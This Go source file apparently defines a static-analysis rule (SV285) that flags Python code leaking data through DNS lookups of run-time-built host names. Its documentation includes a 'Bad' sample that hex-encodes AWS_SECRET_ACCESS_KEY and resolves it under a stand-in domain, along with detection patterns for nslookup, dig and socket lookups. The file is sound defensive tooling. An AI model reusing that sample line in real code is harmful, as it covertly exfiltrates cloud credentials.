package rules

import (
	"strings"

	"github.com/skillvet/skillvet/analyzer"
	"github.com/skillvet/skillvet/facts/pyfacts"
	"github.com/skillvet/skillvet/intel"
	"github.com/skillvet/skillvet/parse/python"
)

// PythonDNSExfiltration reports DNS lookups of names built from data.
var PythonDNSExfiltration = register(&analyzer.Rule{
	ID:       "SV285",
	Name:     "python-dns-exfiltration",
	Title:    "Python leaks data through DNS lookups of built host names",
	Severity: High,
	Category: analyzer.CatExfiltration,
	Tags:     []string{"security", "python", "exfiltration", "CWE-200"},
	Inputs:   analyzer.InPython,
	Doc: `Python code resolves a host name it builds at run time from data and a fixed
domain: ` + "`socket.gethostbyname(f\"{chunk}.x.example.net\")`" + `, ` + "`getaddrinfo`" + `,
` + "`dns.resolver.resolve`" + `, or ` + "`nslookup`" + `/` + "`dig`" + ` through ` + "`subprocess`" + `. Every lookup carries the
data to the domain's name server, through firewalls and proxies that block HTTP
uploads — a classic covert channel (request catchers such as ` + "`oast`" + `/` + "`interact.sh`" + ` log
them).

- **critical** when the label comes from the environment, a file, or encoded data
  (hex, base32/base64);
- **high** for any other variable label under a constant domain.

Names under private suffixes (` + "`.local`" + `, ` + "`.internal`" + `) are service discovery and not
reported. Looking up a host name the user gives (` + "`gethostbyname(args.host)`" + `) has no constant
domain and is not reported.

**Fix:** resolve only the service's own host names.

Bad:

` + "```python" + `
import os, socket
socket.gethostbyname(os.environ["AWS_SECRET_ACCESS_KEY"].encode().hex() + ".t.example.net")
` + "```" + `

Good:

` + "```python" + `
socket.gethostbyname("api.example.com")
` + "```",
	Run: runPythonDNSExfiltration,
})

var pyDNSCalls = map[string]bool{"socket.gethostbyname": true, "socket.gethostbyname_ex": true, "socket.getaddrinfo": true,
	"dns.resolver.resolve": true, "dns.resolver.query": true, "dns.resolver.Resolver().resolve": true,
	"dns.resolver.Resolver().query": true, "asyncio.get_event_loop().getaddrinfo": true}

func runPythonDNSExfiltration(p *analyzer.Pass) error {
	m := pyfacts.Module(p)
	if m == nil {
		return nil
	}
	for _, c := range m.Calls {
		var a python.Arg
		ok := false
		if pyDNSCalls[c.Name] || pyfacts.LastName(c.Name) == "resolve" && pyfacts.ReceiverFrom(m, c, "dns.") {
			a, ok = c.Arg(0, "qname")
			if !ok {
				a, ok = c.Kwarg("host")
			}
		} else if pyfacts.SubprocessCalls[c.Name] || pyfacts.ShellStringCalls[c.Name] {
			if cmd, isCmd := pyfacts.CommandText(m, c); isCmd && pyfacts.HasPrefixAny(strings.TrimSpace(cmd), "nslookup", "dig ", "host ", "ping ") {
				a, ok = c.Arg(0, "args")
			}
		}
		if !ok {
			continue
		}
		if _, isConst := m.Fold(a.Start, a.End); isConst {
			continue
		}
		domain := pyConstDomain(m, a)
		if domain == "" {
			continue
		}
		start, end := m.Span(c)
		src := ""
		for _, pr := range []struct {
			key  string
			pred func(python.Ref) bool
		}{
			{"dns-env", pyfacts.IsEnvRef},
			{"dns-file", func(r python.Ref) bool {
				return r.Name == "open" || pyfacts.HasSuffixAny(r.Name, ".read", ".read_text", ".read_bytes", ".readlines")
			}},
			{"dns-enc", func(r python.Ref) bool {
				return pyfacts.HasPrefixAny(r.Name, "base64.", "binascii.hexlify", "binascii.b2a_hex") || strings.HasSuffix(r.Name, ".hex")
			}},
		} {
			if r, ok := m.Derives(pr.key, a.Start, a.End, pr.pred); ok {
				src = r.Name
				break
			}
		}
		if src != "" {
			pyfacts.Report(p, m, analyzer.Diagnostic{Start: start, End: end, Severity: Critical,
				Message: "looks up host names under " + domain + " built from " + src + ": data leaves through DNS"})
		} else {
			pyfacts.Report(p, m, analyzer.Diagnostic{Start: start, End: end,
				Message: "looks up host names built at run time under " + domain})
		}
	}
	return nil
}

// pyConstDomain returns the constant domain suffix a host name expression
// ends with (".x.example.net" in f"{d}.x.example.net" or d + ".x.example.net").
func pyConstDomain(m *python.Module, a python.Arg) string {
	for k := a.End - 1; k >= a.Start; k-- {
		if m.Toks[k].Kind != python.String {
			continue
		}
		v, _ := m.Value(k)
		v = strings.TrimSpace(v)
		if i := strings.LastIndexByte(v, ' '); i >= 0 {
			v = v[i+1:]
		}
		if d := strings.TrimLeft(v, "."); strings.HasPrefix(v, ".") && strings.Count(d, ".") >= 1 && pyfacts.HostLitRx.MatchString(d) {
			if c := intel.ClassifyHost(d); c == intel.HostPrivate || c == intel.HostLoopback {
				return "" // service discovery inside a private network
			}
			return d
		}
		return ""
	}
	return ""
}
